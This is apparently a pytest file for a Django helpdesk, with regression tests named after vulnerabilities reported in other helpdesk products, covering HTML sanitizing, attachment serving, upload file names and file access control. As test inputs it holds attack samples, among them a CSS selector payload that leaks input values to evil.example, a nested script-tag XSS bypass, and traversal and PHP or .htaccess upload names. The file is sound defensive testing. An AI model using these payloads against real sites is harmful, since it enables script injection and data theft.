"""Flaws reported in other helpdesks' HTML and files, one test for each, named by its report."""

import re

import pytest
from django.test import Client

from customers.models import Customer
from helpdesk.accounts.models import Agent, Team
from helpdesk.lib.blobs import store_blob
from helpdesk.lib.html import clean_html
from tests.channels.conftest import Read
from tests.channels.mails import mail
from tickets.models import Attachment, Ticket


@pytest.mark.parametrize(
    "source",
    ["/api/tickets/1", "../../logout", "http:host/x.png", "//host/x.png", "/\\host/x.png"],
)
def test_zammad_cve_2026_63006_63206_no_image_of_a_mail_is_asked_for(source: str) -> None:
    assert "src=" not in clean_html(f'<img src="{source}">').html


def test_freescout_cve_2026_40497_style_sheets_of_mails_are_dropped() -> None:
    styled = '<style>input[value^="a"]{background:url(//evil.example)}</style><p>Hi</p>'

    assert clean_html(styled).html == "<p>Hi</p>"


def test_freescout_ghsa_jpq8_nested_tags_do_not_survive_cleaning() -> None:
    nested = "<scr<script>ipt>alert(1)</scr</script>ipt>"
    once = clean_html(nested).html

    assert "<script" not in once
    assert clean_html(once).html == once


@pytest.mark.parametrize(
    ("name", "kind"),
    [("a.svg", "image/svg+xml"), ("a.html", "text/html"), ("a.xml", "text/xml"), ("a.pdf", "x/y")],
)
def test_freescout_1359_libredesk_a8a6a978_uvdesk_b2b8340_rt_cve_2022_25802_files_never_act(
    desk: Client, ticket: Ticket, support: Team, name: str, kind: str
) -> None:
    file = Attachment.objects.create(
        message=ticket.messages.get(),
        name=name,
        content_type=kind,
        size=1,
        sha256=store_blob(b"<script>alert(1)</script>"),
    )

    answer = desk.get(f"/desk/files/{file.pk}")
    answer.close()

    assert answer["Content-Type"] == "application/octet-stream"
    assert answer["Content-Disposition"].startswith("attachment")
    assert "sandbox" in answer["Content-Security-Policy"]


@pytest.mark.parametrize(
    "name", ["x.phtml", ".htaccess", "\u200b.htaccess", "../../x.pht", "x.php"]
)
def test_freescout_cve_2025_48471_2026_27636_28289_files_are_not_stored_by_their_names(
    read: Read, name: str
) -> None:
    message = read(
        mail(
            "<?php",
            MIME_Version="1.0",
            Content_Type="application/x-php",
            Content_Disposition=f'attachment; filename="{name}"',
        )
    )

    (file,) = message.attachments.all()
    assert re.fullmatch(r"[0-9a-f]{64}", file.sha256)
    assert "/" not in file.name


def test_freescout_ghsa_wg74_a_file_is_shown_to_nobody_without_its_ticket(
    client: Client, outsider: Agent, ticket: Ticket, kofi: Customer
) -> None:
    file = Attachment.objects.create(
        message=ticket.messages.get(),
        name="a.txt",
        content_type="text/plain",
        size=1,
        sha256=store_blob(b"x"),
    )
    path = f"/desk/files/{file.pk}"

    assert client.get(path).status_code == 302
    client.force_login(outsider)
    assert client.get(path).status_code == 404
